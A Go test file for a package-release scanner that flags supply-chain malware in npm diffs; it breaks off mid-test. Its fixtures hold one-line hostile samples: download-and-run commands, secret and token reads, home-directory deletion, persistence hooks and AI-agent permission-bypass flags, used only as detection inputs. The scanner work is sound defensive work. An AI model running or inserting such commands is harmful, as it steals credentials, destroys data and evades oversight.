package signals

import (
	stdctx "context"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/stagegate/stagegate/internal/diff"
)

// Payload strings below imitate the incidents: hosts are .invalid or
// TEST-NET, token shapes appear only as regex literals, and every payload
// starts with the inert marker.
const ctMarker = `throw new Error("fixture – never run");` + "\n"

// ctRun diffs old against new (nil old: a first release) and returns the
// content signals.
func ctRun(t testing.TB, old, new map[string]string) []Signal {
	t.Helper()
	in := Input{New: pkg(new)}
	if old != nil {
		in.Old = pkg(old)
	}
	d, err := diff.Compare(stdctx.Background(), in.Old, in.New, diff.Options{})
	if err != nil {
		t.Fatal(err)
	}
	in.Diff = d
	c := newContext(in)
	contentSignals(c)
	return c.finish()
}

func ctFind(sigs []Signal, id, path string) *Signal {
	for i := range sigs {
		if sigs[i].ID == id && (path == "" || sigs[i].Path == path) {
			return &sigs[i]
		}
	}
	return nil
}

const ctManifest = `{"name":"fx","version":"1.0.0","repository":"github:fx/fx","homepage":"https://fx.example.invalid/docs"}`

// ctBase is a small readable library every case modifies or extends.
var ctBase = map[string]string{
	"package.json": ctManifest,
	"index.js":     "'use strict';\nfunction add(a, b) {\n  return a + b;\n}\nmodule.exports = { add };\n",
	"README.md":    "# fx\n\nAdds numbers.\n",
}

func ctWith(extra map[string]string) map[string]string {
	out := map[string]string{}
	for k, v := range ctBase {
		out[k] = v
	}
	for k, v := range extra {
		out[k] = v
	}
	return out
}

// ctAppend is index.js with lines added after its body.
func ctAppend(lines ...string) map[string]string {
	return ctWith(map[string]string{"index.js": ctBase["index.js"] + strings.Join(lines, "\n") + "\n"})
}

func TestContentDetectors(t *testing.T) {
	for _, tt := range []struct {
		name     string
		old, new map[string]string
		id, path string
		want     bool
		sev      Severity // checked when want and non-empty
		inTitle  string   // checked when want and non-empty
	}{
		// runner-token-access
		{name: "proc mem pieced together", new: ctAppend("const p = '/proc/' + pid + '/mem';"), id: RunnerTokenAccess, path: "index.js", want: true, sev: High},
		{name: "proc self maps", new: ctAppend("fs.readFileSync('/proc/self/maps');"), id: RunnerTokenAccess, want: true},
		{name: "proc cpuinfo is fine", new: ctAppend("fs.readFileSync('/proc/cpuinfo');"), id: RunnerTokenAccess},
		{name: "Runner.Worker", new: ctAppend("const name = 'Runner.Worker';"), id: RunnerTokenAccess, want: true, inTitle: "Runner.Worker"},
		{name: "OIDC request token", new: ctAppend("const u = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;"), id: RunnerTokenAccess, want: true},
		{name: "isSecret JSON key", new: ctAppend(`const re = /"isSecret":true/g;`), id: RunnerTokenAccess, want: true},
		{name: "isSecret identifier is fine", new: ctAppend("if (opts.isSecret) { hide(); }"), id: RunnerTokenAccess},
		{name: "ptrace word", new: ctAppend("native.ptrace(pid);"), id: RunnerTokenAccess, want: true},
		{name: "ptraceScope is fine", new: ctAppend("const ptraceScope = 1;"), id: RunnerTokenAccess},
		{name: "already in the base", old: ctAppend("const name = 'Runner.Worker';"), new: ctAppend("const name = 'Runner.Worker';", "const x = 1;"), id: RunnerTokenAccess},
		{name: "one more than the base", old: ctAppend("const name = 'Runner.Worker';"), new: ctAppend("const name = 'Runner.Worker';", "const again = 'Runner.Worker';"), id: RunnerTokenAccess, want: true},

		// credential-access
		{name: "env dump", new: ctAppend("const all = JSON.stringify(process.env);"), id: CredentialAccess, want: true, sev: High},
		{name: "env keys", new: ctAppend("for (const k of Object.keys(process.env)) send(k);"), id: CredentialAccess, want: true},
		{name: "one env var is fine", new: ctAppend("const home = process.env.HOME;"), id: CredentialAccess},
		{name: "named secret", new: ctAppend("const t = process.env.NPM_TOKEN;"), id: CredentialAccess, want: true, inTitle: "NPM_TOKEN"},
		{name: "azure secret", new: ctAppend("const s = process.env.AZURE_CLIENT_SECRET;"), id: CredentialAccess, want: true},
		{name: "authToken with npmrc", new: ctAppend("const f = path.join(os.homedir(), '.npmrc');", "const t = read(f).split('_authToken=')[1];"), id: CredentialAccess, want: true},
		{name: "authToken alone is config handling", new: ctAppend("const key = scope + ':_authToken';"), id: CredentialAccess},
		{name: "ssh key", new: ctAppend("read(path.join(home, '.ssh/id_ed25519'));"), id: CredentialAccess, want: true},
		{name: "aws credentials", new: ctAppend("read('~/.aws/credentials');"), id: CredentialAccess, want: true},
		{name: "token regex", new: ctAppend("const re = /gh[pousr]_[A-Za-z0-9]{36}/g;"), id: CredentialAccess, want: true},
		{name: "npm token regex", new: ctAppend("const re = /npm_[A-Za-z0-9]{36}/g;"), id: CredentialAccess, want: true},
		{name: "uuid regex is fine", new: ctAppend("const re = /id_[A-Za-z0-9]{36}/;"), id: CredentialAccess},
		{name: "secret named in the README only", new: ctWith(map[string]string{"README.md": "# fx\n\nSet NPM_TOKEN and GITHUB_TOKEN.\n"}), id: CredentialAccess},

		// credential-access: npm's own token through its config
		{name: "npm_config__authToken", new: ctAppend("const t = process.env.npm_config__authToken;"), id: CredentialAccess, want: true, sev: High},
		{name: "npm config get of a token", new: ctAppend("const t = execSync('npm config get //registry.npmjs.org/:_authToken');"), id: CredentialAccess, want: true},
		{name: "npm config get registry is fine", new: ctAppend("const r = execSync('npm config get registry');"), id: CredentialAccess},
		{name: "npm lifecycle variables are fine", new: ctAppend("const e = process.env.npm_lifecycle_event;", "const n = process.env.npm_package_name;"), id: CredentialAccess},

		{name: "a .env of settings is not code", new: ctWith(map[string]string{".env": "# local\nNPM_TOKEN=demo-value\n"}), id: CredentialAccess},
		{name: "an .npmrc holding code is code", new: ctWith(map[string]string{".npmrc": "eval(atob(\"Ly9yZWdpc3RyeQ==\"));\n"}), id: DynamicCode, want: true},

		// dynamic-code: download and execute, anywhere
		{name: "curl piped into bash", new: ctAppend("execSync('curl -s https://cdn.example.invalid/p.sh | bash');"), id: DynamicCode, want: true, sev: High, inTitle: "downloads and runs"},
		{name: "wget then chmod", new: ctAppend("run('wget -q -O /tmp/x https://a.example.invalid/x && chmod +x /tmp/x && /tmp/x');"), id: DynamicCode, want: true},
		{name: "iwr into iex", new: ctAppend("spawn('powershell', ['-c', 'iwr https://a.example.invalid/p.ps1 | iex']);"), id: DynamicCode, want: true},
		{name: "certutil urlcache", new: ctWith(map[string]string{"setup.bat": "certutil -urlcache -split -f http://198.51.100.7/x.exe x.exe\r\n"}), id: DynamicCode, want: true},
		{name: "powershell -enc", new: ctAppend("exec('powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A');"), id: DynamicCode, want: true},
		{name: "curl to a file is not execution", new: ctAppend("execSync('curl -sSfo out.json https://api.example.invalid/data');"), id: DynamicCode},
		{name: "curl | sh in a comment", new: ctAppend("// install with: curl -fsSL https://get.example.invalid | sh"), id: DynamicCode},
		{name: "curl | sh in a README", new: ctWith(map[string]string{"README.md": "curl -fsSL https://get.example.invalid | sh\n"}), id: DynamicCode},
		{name: "curl | sh in a Dockerfile runs on a build machine", new: ctWith(map[string]string{"Dockerfile": "RUN curl -fsSL https://deb.example.invalid/setup | bash -\n"}), id: DynamicCode},
		{name: "curl | sh in a workflow", new: ctWith(map[string]string{".github/workflows/ci.yml": "    - run: curl -LsSf https://astral.example.invalid/install.sh | sh\n"}), id: DynamicCode},

		// dynamic-code: WebAssembly of fetched or decoded bytes
		{name: "wasm from fetch", new: ctAppend("const { instance } = await WebAssembly.instantiateStreaming(fetch('https://a.example.invalid/p.wasm'));"), id: DynamicCode, want: true, inTitle: "WebAssembly"},
		{name: "wasm from base64", new: ctAppend("const bytes = Buffer.from(blob, 'base64');", "const m = await WebAssembly.compile(bytes);"), id: DynamicCode, want: true},
		{name: "wasm from a local file is fine", new: ctAppend("const bytes = fs.readFileSync(path.join(__dirname, 'a.wasm'));", "const m = await WebAssembly.compile(bytes);"), id: DynamicCode},

		// dynamic-code
		{name: "eval of fetched data", new: ctAppend("https.get(url, (r) => {", "  r.on('data', (c) => { eval(c); });", "});"), id: DynamicCode, want: true, sev: High, inTitle: "eval"},
		{name: "eval at a line start with a decode", new: ctAppend("const s = atob(blob);", "eval(s);"), id: DynamicCode, want: true},
		{name: "new Function of a base64 buffer", new: ctAppend("const src = Buffer.from(data, 'base64').toString();", "const f = new Function(src);"), id: DynamicCode, want: true},
		{name: "decipher then compile", new: ctAppend("const d = crypto.createDecipheriv(alg, key, iv);", "module._compile(d.update(blob), 'x.js');"), id: DynamicCode, want: true},
		{name: "require of a computed name near fetch", new: ctAppend("const code = await fetch(u);", "require(name);"), id: DynamicCode, want: true},
		{name: "lone eval is a template engine", new: ctAppend("function run(src) { return eval(src); }"), id: DynamicCode},
		{name: "method named eval is fine", new: ctAppend("const code = await fetch(u);", "page.eval(code);"), id: DynamicCode},
		{name: "require of a literal is fine", new: ctAppend("const code = await fetch(u);", "const fs = require('fs');"), id: DynamicCode},
		{name: "pairing far away does not count", new: ctAppend(append(append([]string{"const code = await fetch(u);"}, slices.Repeat([]string{"noop();"}, 60)...), "eval(x);")...), id: DynamicCode},
		{name: "eval in the base already", old: ctAppend("https.get(u, (r) => r.on('data', (c) => eval(c)));"), new: ctAppend("https.get(u, (r) => r.on('data', (c) => eval(c)));", "const y = 2;"), id: DynamicCode},

		// self-propagation
		{name: "npm publish", new: ctAppend("execSync('npm publish --access public');"), id: SelfPropagation, want: true, sev: High},
		{name: "maintainer search", new: ctAppend("get(reg + '/-/v1/search?text=maintainer:' + user);"), id: SelfPropagation, want: true},
		{name: "repo creation on a GitHub API host", new: ctAppend("post('https://api.github.example.invalid/user/repos', body);"), id: SelfPropagation, want: true},
		{name: "user/repos elsewhere is fine", new: ctAppend("get('/api/user/repos');"), id: SelfPropagation},
		{name: "runner registration", new: ctAppend("post(`/repos/${r}/actions/runners/registration-token`);"), id: SelfPropagation, want: true},
		{name: "workflow write", new: ctAppend("fs.writeFileSync('.github/workflows/x.yml', wf);"), id: SelfPropagation, want: true},
		{name: "secrets dump in a workflow", new: ctWith(map[string]string{".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    env:\n      S: ${{ toJSON(secrets) }}\n"}), id: SelfPropagation, path: ".github/workflows/ci.yml", want: true},

		// persistence
		{name: "bashrc append", new: ctAppend("fs.appendFileSync(path.join(home, '.bashrc'), cmd);"), id: Persistence, want: true, sev: High},
		{name: "profile property is fine", new: ctAppend("const p = user.profile;"), id: Persistence},
		{name: "shutdown", new: ctAppend("const s = 'sudo shutdown -h 0';"), id: Persistence, want: true},
		{name: "agent bypass", new: ctAppend("spawnAgent('claude --dangerously-skip-permissions -p x');"), id: Persistence, want: true},
		{name: "yolo flag", new: ctAppend("run(['gemini', '--yolo']);"), id: Persistence, want: true},
		{name: "rm -rf home", new: ctAppend("execSync('rm -rf ~/');"), id: Persistence, want: true, inTitle: "deletes"},
		{name: "rm -rf HOME", new: ctAppend("execSync('rm -rf $HOME');"), id: Persistence, want: true},
		{name: "rm -rf build is fine", new: ctAppend("execSync('rm -rf ./build');"), id: Persistence},
		{name: "rmSync homedir", new: ctAppend("fs.rmSync(os.homedir(), { recursive: true, force: true });"), id: Persistence, want: true},
		{name: "rmSync tmp is fine", new: ctAppend("fs.rmSync(tmp, { recursive: true });"), id: Persistence},
		{name: "run key", new: ctAppend(`reg('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', name);`), id: Persistence, want: true},
		{name: "vscode folderOpen", new: ctWith(map[string]string{"x.js": "write('.vscode/tasks.json', {runOptions: {runOn: 'folderOpen'}});\n"}), id: Persistence, want: true},
		{name: "crontab", new: ctAppend("execSync('(crontab -l; echo job) | crontab -');"), id: Persistence, want: true},

		// wallet-hook
		{name: "ethereum hook", new: ctAppend("if (window.ethereum) { hook(window.ethereum); }"), id: WalletHook, want: true, sev: Medium},
		{name: "bracketed xhr send overwrite", new: ctAppend("XMLHttpRequest['prototype']['send']=function(){};"), id: WalletHook, want: true},
		{name: "xhr open overwrite", new: ctAppend("XMLHttpRequest.prototype.open = wrap(orig);"), id: WalletHook, want: true},
		{name: "xhr prototype read is fine", new: ctAppend("const orig = XMLHttpRequest.prototype.open;"), id: WalletHook},
		{name: "fetch overwrite", new: ctAppend("window.fetch = function () { return f.apply(this, arguments); };"), id: WalletHook, want: true},
		{name: "fetch comparison is fine", new: ctAppend("if (window.fetch === undefined) polyfill();"), id: WalletHook},
		{name: "eth address regex", new: ctAppend("const re = /0x[a-fA-F0-9]{40}/g;"), id: WalletHook, want: true},
		{name: "levenshtein by name", new: ctAppend("function levenshtein(a, b) { return 0; }"), id: WalletHook, want: true},
		{name: "levenshtein in a fuzzy-search library", new: map[string]string{"package.json": `{"name":"fz","keywords":["fuzzy"]}`, "index.js": "function levenshtein(a, b) { return 0; }\n"},
			old: map[string]string{"package.json": `{"name":"fz","keywords":["fuzzy"]}`, "index.js": "module.exports = 1;\n"}, id: WalletHook},

		// process-spawn
		{name: "child_process", new: ctAppend("const { execSync } = require('child_process');", "execSync('id');"), id: ProcessSpawn, want: true, sev: Low},
		{name: "detached unref", new: ctAppend("const cp = require('child_process');", "cp.spawn(bin, [], { detached: true, stdio: 'ignore' }).unref();"), id: ProcessSpawn, want: true},
		{name: "regex exec is fine", new: ctAppend("const m = /a+/.exec(s);", "const r = re.exec(t);"), id: ProcessSpawn},
		{name: "shell downloader in a script", new: ctWith(map[string]string{"install.sh": "#!/bin/sh\ncurl -fsSL https://get.example.invalid/x | sh\n"}), id: ProcessSpawn, path: "install.sh", want: true},
		{name: "batch downloader with CRLF", new: ctWith(map[string]string{"run.bat": "@echo off\r\ncertutil.exe -urlcache -f http://192.0.2.7/a a\r\n"}), id: ProcessSpawn, path: "run.bat", want: true},
		{name: "script comment is fine", new: ctWith(map[string]string{"build.sh": "#!/bin/sh\n# no curl here\nmake\n"}), id: ProcessSpawn},
		{name: "Bun.spawn", new: ctAppend("Bun.spawn(['x']);"), id: ProcessSpawn, want: true},
		{name: "first release spawning is not news", old: nil, new: map[string]string{"package.json": ctManifest, "cli.js": "require('child_process').execSync('ls');\n"}, id: ProcessSpawn},

		// new-endpoint
		{name: "a subdomain of the package's own homepage is its own", new: ctAppend("fetch('https://api.fx.example.invalid/v1/x');"), id: NewEndpoint},
		{name: "host of a DNS query", new: ctAppend("dns.lookup('beacon.example.invalid', (e, a) => cb(a));"), id: NewEndpoint, want: true, sev: Medium, inTitle: "beacon.example.invalid"},
		{name: "host of a raw connection", new: ctAppend("const c = net.createConnection(4444, 'c2.example.invalid');"), id: NewEndpoint, want: true, inTitle: "c2.example.invalid"},
		{name: "throwaway TLD is high", new: ctAppend("fetch('https://cdn-stats.icu/collect', { method: 'POST' });"), id: NewEndpoint, want: true, sev: High, inTitle: ".icu"},
		{name: "a docs URL in a message is low", new: ctAppend("console.warn('See https://docs.example.invalid/migrate for details');"), id: NewEndpoint, want: true, sev: Low},
		{name: "new host in code", new: ctAppend("post('https://collect.example.invalid/v1', data);"), id: NewEndpoint, want: true, sev: Medium, inTitle: "collect.example.invalid"},
		{name: "raw IP in code", new: ctAppend("http.get({ hostname: '203.0.113.7', path: '/raw/x' });"), id: NewEndpoint, want: true, sev: High, inTitle: "203.0.113.7"},
		{name: "webhook label", new: ctAppend("post('https://webhook.example.invalid/abc', data);"), id: NewEndpoint, want: true, sev: High, inTitle: "webhook"},
		{name: "pastebin raw", new: ctAppend("https.get('https://pastebin.com/raw/abc');"), id: NewEndpoint, want: true, sev: High},
		{name: "non-default port", new: ctAppend("connect('http://api.example.invalid:8443/x');"), id: NewEndpoint, want: true, inTitle: "non-default port"},
		{name: "example.com is fine", new: ctAppend("const u = 'https://example.com/x';"), id: NewEndpoint},
		{name: "schema host is fine", new: ctAppend("const ns = 'http://www.w3.org/2000/svg';"), id: NewEndpoint},
		{name: "own homepage is fine", new: ctAppend("const docs = 'https://fx.example.invalid/docs/api';"), id: NewEndpoint},
		{name: "own repository is fine", new: ctAppend("const issues = 'https://github.com/fx/fx/issues';"), id: NewEndpoint},
		{name: "loopback is fine", new: ctAppend("listen('http://127.0.0.1:8080/');"), id: NewEndpoint},
		{name: "host in the base file already", old: ctAppend("const a = 'https://api.example.invalid/a';"), new: ctAppend("const a = 'https://api.example.invalid/a';", "const b = 'https://api.example.invalid/b';"), id: NewEndpoint},
		{name: "host in a comment is fine", new: ctAppend("// see https://docs.example.invalid/guide"), id: NewEndpoint},
		{name: "version string is not an IP", new: ctAppend("const v = '1.2.3.4-beta';", "const w = 'v10.0.0.1';"), id: NewEndpoint},
		{name: "README link is fine", new: ctWith(map[string]string{"README.md": "# fx\n\nSee https://docs.example.invalid/.\n"}), id: NewEndpoint},
		{name: "README raw IP is low", new: ctWith(map[string]string{"README.md": "# fx\n\nMirror: http://192.0.2.44/fx\n"}), id: NewEndpoint, want: true, sev: Low},
		{name: "script host:port", new: ctWith(map[string]string{"run.sh": "#!/bin/sh\n./miner -o pool.example.invalid:3333\n"}), id: NewEndpoint, path: "run.sh", want: true, inTitle: "pool.example.invalid:3333"},
		{name: "first release plain host is not news", old: nil, new: map[string]string{"package.json": ctManifest, "a.js": "const u = 'https://api.example.invalid/';\n"}, id: NewEndpoint},
		{name: "first release raw IP still is", old: nil, new: map[string]string{"package.json": ctManifest, "a.js": "const u = 'http://192.0.2.9/x';\n"}, id: NewEndpoint, want: true, sev: High},

		// file kinds
		{name: "declarations never run", new: ctWith(map[string]string{"index.d.ts": "/** Reads JSON.stringify(process.env) */\nexport declare function dump(): string;\n"}), id: CredentialAccess},
		{name: "package.json is the manifest detectors'", new: ctWith(map[string]string{"package.json": `{"name":"fx","scripts":{"x":"node -e \"eval(atob(process.env.X))\" && curl http://192.0.2.1"}}`}), id: NewEndpoint},
		{name: "extensionless shell script", new: ctWith(map[string]string{"bin/setup": "#!/usr/bin/env bash\nwget http://192.0.2.3/p\n"}), id: ProcessSpawn, path: "bin/setup", want: true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			old := tt.old
			if old == nil && !strings.HasPrefix(tt.name, "first release") {
				old = ctBase
			}
			sigs := ctRun(t, old, tt.new)
			s := ctFind(sigs, tt.id, tt.path)
			if (s != nil) != tt.want {
				t.Fatalf("%s fired = %v, want %v; signals: %+v", tt.id, s != nil, tt.want, sigs)
			}
			if s == nil {
				return
			}
			if tt.sev != "" && s.Severity != tt.sev {
				t.Errorf("severity %s, want %s: %+v", s.Severity, tt.sev, *s)
			}
			if tt.inTitle != "" && !strings.Contains(s.Title, tt.inTitle) {
				t.Errorf("title %q lacks %q", s.Title, tt.inTitle)
			}
			if s.Line < 1 {
				t.Errorf("line %d: a content signal names its first line", s.Line)
			}
		})
	}
}

// TestContentOneSignalPerPath checks the first line and the count.
func TestContentOneSignalPerPath(t *testing.T) {
	sigs := ctRun(t, ctBase, ctAppend("const a = process.env.NPM_TOKEN;", "const b = JSON.stringify(process.env);", "const c = process.env.GH_TOKEN;"))
	var n int
	for _, s := range sigs {
		if s.ID == CredentialAccess {
			n++
			if s.Line != 6 || !strings.Contains(s.Detail, "3 matches") {
				t.Errorf("credential-access at line %d, detail %q; want line 6 and 3 matches", s.Line, s.Detail)
			}
		}
	}
	if n != 1 {
		t.Errorf("%d credential-access signals for one file, want 1", n)
	}
}

// TestContentInstallTimeRaise: a code signal in the postinstall file goes
// up one level (finish does it; the path must be the package path).
func TestContentInstallTimeRaise(t *testing.T) {
	sigs := ctRun(t, ctBase, ctWith(map[string]string{
		"package.json": `{"name":"fx","scripts":{"postinstall":"node ./lib/build.js"}}`,
		"lib/build.js": ctMarker + "const { spawn } = require('child_process');\nspawn('sh', ['x']);\n",
	}))
	s := ctFind(sigs, ProcessSpawn, "lib/build.js")
	if s == nil || s.Severity != Medium {
		t.Fatalf("process-spawn in the postinstall file: %+v", s)
	}
}

// TestContentModifiedLineNumbers: the line of a hit in an edited file is
// the staged file's line, whichever way the added text is read.
func TestContentModifiedLineNumbers(t *testing.T) {
	var lines []string
	for i := range 3000 {
		lines = append(lines, "const v"+strings.Repeat("x", i%7)+" = "+string(rune('a'+i%26))+";")
	}
	old := strings.Join(lines, "\n") + "\n"
	newLines := slices.Clone(lines)
	newLines[1500] = "const u = 'https://collect.example.invalid/a';"
	newLines[2999] = "const t = process.env.NPM_TOKEN;"
	for _, tt := range []struct {
		name string
		new  string
	}{
		{"few lines added", strings.Join(newLines, "\n") + "\n"},
		{"most lines re-indented", "  " + strings.Join(newLines, "\n  ") + "\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			sigs := ctRun(t, map[string]string{"a.js": old}, map[string]string{"a.js": tt.new})
			if s := ctFind(sigs, NewEndpoint, "a.js"); s == nil || s.Line != 1501 {
				t.Errorf("new-endpoint: %+v, want line 1501", s)
			}
			if s := ctFind(sigs, CredentialAccess, "a.js"); s == nil || s.Line != 3000 {
				t.Errorf("credential-access: %+v, want line 3000", s)
			}
		})
	}
}

// TestContentFirstLine: line-start patterns on a file's very first line.
func TestContentFirstLine(t *testing.T) {
	sigs := ctRun(t, ctBase, ctWith(map[string]string{"x.js": "eval(atob(s));\n"}))
	if s := ctFind(sigs, DynamicCode, "x.js"); s == nil || s.Line != 1 {
		t.Fatalf("dynamic-code on line 1: %+v", s)
	}
}

// TestContentDemo runs the detectors over the demo's staged versions and
// checks this file's ids against assets/demo/README.md.
func TestContentDemo(t *testing.T) {
	mine := []string{RunnerTokenAccess, CredentialAccess, DynamicCode, SelfPropagation, Persistence, WalletHook, NewEndpoint, ProcessSpawn}
	want := map[string][]string{
		"termhue@1.0.1":   {WalletHook},
		"scopewalk@2.1.2": {CredentialAccess, DynamicCode, Persistence, NewEndpoint, ProcessSpawn},
		"@acme/router@1.5.2": {RunnerTokenAccess, CredentialAccess, NewEndpoint,
			Persistence,   // router_init.js holds `rm -rf ~` (the README lists it; not a quiet id)
			ProcessSpawn}, // its string table names child_process and execSync: folded text shows it
		"qlimit@1.2.1": {SelfPropagation, RunnerTokenAccess, CredentialAccess, Persistence, NewEndpoint, ProcessSpawn,
			DynamicCode}, // setup_bun.js pipes curl into bash
	}
	// Where the README lists an id, where it must show.
	where := map[string]map[string]string{
		"scopewalk@2.1.2": {DynamicCode: "lib/build.js", CredentialAccess: "lib/build.js"},
		"qlimit@1.2.1":    {SelfPropagation: "bun_environment.js", RunnerTokenAccess: "bun_environment.js", ProcessSpawn: "setup_bun.js"},
	}
	releases := demoReleases(t)
	if len(releases) < 10 {
		t.Fatalf("%d staged demo versions, want 10", len(releases))
	}
	for _, r := range releases {
		name := r.Name + "@" + r.Version
		t.Run(name, func(t *testing.T) {
			c := newContext(r.Input)
			contentSignals(c)
			got := map[string]bool{}
			for _, s := range c.finish() {
				got[s.ID] = true
				if s.Severity == High && want[name] == nil {
					t.Errorf("benign release raised high %s: %+v", s.ID, s)
				}
			}
			for _, id := range mine {
				if exp := slices.Contains(want[name], id); got[id] != exp {
					t.Errorf("%s fired = %v, want %v", id, got[id], exp)
				}
			}
			for id, path := range where[name] {
				found := false
				for _, s := range c.signals {
					found = found || s.ID == id && s.Path == path
				}
				if !found {
					t.Errorf("%s not reported on %s", id, path)
				}
			}
			// scopewalk's spawned stage-two file runs at install time.
			if name == "scopewalk@2.1.2" {
				for _, s := range c.finish() {
					if s.ID == ProcessSpawn && s.Path == "lib/build.js" && s.Severity != Medium {
						t.Errorf("process-spawn in the postinstall file not raised: %+v", s)
					}
				}
			}
		})
	}
}

// TestContentRealPairsQuiet: the benign real releases raise nothing high
// (skipped without bench/.cache).
func TestContentRealPairsQuiet(t *testing.T) {
	if testing.Short() {
		t.Skip("reads bench/.cache")
	}
	for _, p := range realPairs() {
		t.Run(p.name, func(t *testing.T) {
			in := realPair(t, p)
			c := newContext(in)
			contentSignals(c)
			for _, s := range c.finish() {
				if s.Severity == High {
					t.Errorf("benign release raised %+v", s)
				}
				t.Logf("%s %s %s:%d %s", s.Severity, s.ID, s.Path, s.Line, s.Title)
			}
		})
	}
}

func TestContentPatternsShape(t *testing.T) {
	seen := map[string]bool{}
	for _, p := range contentPatterns() {
		if len(p.lit) < minPatternLen {
			t.Errorf("%q is shorter than minPatternLen", p.lit)
		}
		if seen[p.lit] {
			t.Errorf("%q listed twice", p.lit)
		}
		seen[p.lit] = true
		if !strings.Contains(p.lit, p.key) {
			t.Errorf("key %q is not in %q: the transition would count something else", p.key, p.lit)
		}
		if p.kind != kHostKey && kindID(p.kind) != "" && kindLabel(p.kind) == "" {
			t.Errorf("%q: kind %d has no label", p.lit, p.kind)
		}
	}
}

// TestLitSetMatchesNaive compares the scanner with strings.Index on random
// text made of the literals' own bytes, at every size around the
// four-walk threshold.
func TestLitSetMatchesNaive(t *testing.T) {
	lits := []string{"eval(", " eval(", "abcd", "abcde", "bcdab", "/proc/", "zzzz", "dabc"}
	set := newLitSet(lits)
	r := rand.New(rand.NewPCG(1, 2))
	alphabet := "abcdez (/prolv"
	for _, n := range []int{0, 3, 4, 5, 17, 255, 1023, 1024, 1025, 4096, 10007} {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		checkLitSet(t, set, lits, b)
	}
}

func checkLitSet(t *testing.T, set *litSet, lits []string, text []byte) {
	t.Helper()
	type hit struct{ lit, at int }
	var got, want []hit
	set.scan(text, func(lit, at int) { got = append(got, hit{lit, at}) })
	for li, l := range lits {
		for i := 0; i+len(l) <= len(text); i++ {
			if string(text[i:i+len(l)]) == l {
				want = append(want, hit{li, i})
			}
		}
	}
	order := func(a, b hit) int {
		if a.at != b.at {
			return a.at - b.at
		}
		return a.lit - b.lit
	}
	slices.SortFunc(got, order)
	slices.SortFunc(want, order)
	if !slices.Equal(got, want) {
		t.Fatalf("text %q: got %v, want %v", text, got, want)
	}
}

func TestCountKeys(t *testing.T) {
	text := []byte("child_process x child_process ://a.io ://a.io :: eval( eval(")
	keys := []string{"child_process", "://a.io", "eval(", "missing", "::"}
	want := []int{2, 2, 2, 0, 1}
	if got := countKeys(keys, text); !slices.Equal(got, want) {
		t.Errorf("countKeys (one by one) = %v, want %v", got, want)
	}
	many := append(slices.Clone(keys), "zzzz", "yyyy")
	if got := countKeys(many, text); !slices.Equal(got[:len(want)], want) {
		t.Errorf("countKeys (litSet) = %v, want %v", got, want)
	}
}

func TestParseAuthority(t *testing.T) {
	for _, tt := range []struct {
		in, host, port string
		ok             bool
	}{
		{"collect.example.invalid/v1", "collect.example.invalid", "", true},
		{"User:pw@API.Example.Invalid:8443/x", "api.example.invalid", "8443", true},
		{"192.0.2.10/raw/x", "192.0.2.10", "", true},
		{"localhost:3000/", "", "", false},
		{"${host}/x", "", "", false},
		{"' + host + '/", "", "", false},
		{"a.b1/x", "", "", false},
		{"x.io:99999999/", "", "", false},
		{"", "", "", false},
	} {
		host, port, _, ok := parseAuthority([]byte(tt.in))
		if ok != tt.ok || host != tt.host || port != tt.port {
			t.Errorf("parseAuthority(%q) = %q %q %v, want %q %q %v", tt.in, host, port, ok, tt.host, tt.port, tt.ok)
		}
	}
}

func TestShadyHost(t *testing.T) {
	for host, want := range map[string]bool{
		"webhook.site": true, "webhook.example.invalid": true, "abc.workers.dev": true, "x.ngrok.io": true,
		"abc.oast.fun": true, "api.telegram.org": true, "bit.ly": true, "evil.xyz": true,
		"raw.githubusercontent.com": true, "example.invalid": false, "github.com": false, "top.example.invalid": false,
	} {
		if got := shadyHost(host, nil) != ""; got != want {
			t.Errorf("shadyHost(%q) = %v, want %v", host, got, want)
		}
	}
	if shadyHost("discord.com", []byte("/api/webhooks/1/x")) == "" || shadyHost("discord.com", []byte("/invite/x")) != "" {
		t.Error("discord: only webhooks are shady")
	}
}

func TestManifestHosts(t *testing.T) {
	got := manifestHosts(map[string]any{
		"repository": map[string]any{"type": "git", "url": "git+https://git.example.invalid/o/r.git"},
		"homepage":   "https://www.fx.example.invalid/",
		"bugs":       "git@gitlab.example.invalid:o/r.git",
	})
	for _, h := range []string{"git.example.invalid", "fx.example.invalid", "www.fx.example.invalid", "gitlab.example.invalid"} {
		if !got[h] {
			t.Errorf("own host %q missing from %v", h, got)
		}
	}
	if !manifestHosts(map[string]any{"repository": "o/r"})["github.com"] {
		t.Error("shorthand o/r is a GitHub repository")
	}
}

// FuzzContentSignals feeds arbitrary base and staged file text through the
// detectors: no panic, and every signal names a changed path and a line
// of the staged file.
func FuzzContentSignals(f *testing.F) {
	f.Add("x", "https.get('http://192.0.2.1:80/raw');\neval(c)\n", "a.js")
	f.Add("a\nb\n", "a\n/proc/self/mem\nb\n", "run.sh")
	f.Add("", "\n\neval(\n", "x")
	f.Add("x = 1", "XMLHttpRequest['prototype']['send']=1;host: '1.2.3.4:5'", "b.bat")
	f.Fuzz(func(t *testing.T, oldText, newText, name string) {
		if name == "" || strings.ContainsAny(name, "\x00\\") || strings.HasPrefix(name, "/") || strings.Contains(name, "..") || name == "package.json" {
			return
		}
		sigs := ctRun(t, map[string]string{name: oldText}, map[string]string{name: newText})
		lines := strings.Count(newText, "\n") + 1
		for _, s := range sigs {
			if s.Path != name || s.Line < 1 || s.Line > lines {
				t.Errorf("signal %+v outside the staged file (%d lines)", s, lines)
			}
		}
	})
}

// FuzzLitSet checks the scanner against the naive search on any text.
func FuzzLitSet(f *testing.F) {
	f.Add([]byte("eval( /proc/ abcd"))
	lits := []string{"eval(", "/proc/", "abcd", "bcda", "aaaa"}
	set := newLitSet(lits)
	f.Fuzz(func(t *testing.T, text []byte) {
		checkLitSet(t, set, lits, text)
	})
}

// TestContentTokenDiff: a minified file is diffed by tokens; the added
// pieces are scanned from copies (chunk mode) and counted the same way.
func TestContentTokenDiff(t *testing.T) {
	var b strings.Builder
	for i := range 3000 {
		b.WriteString("var a" + strings.Repeat("b", i%5) + "=" + string(rune('0'+i%10)) + ";")
	}
	old := b.String()
	injected := old[:20000] + "window.fetch=function(){};https.get('https://collect.example.invalid/x');" + old[20000:]
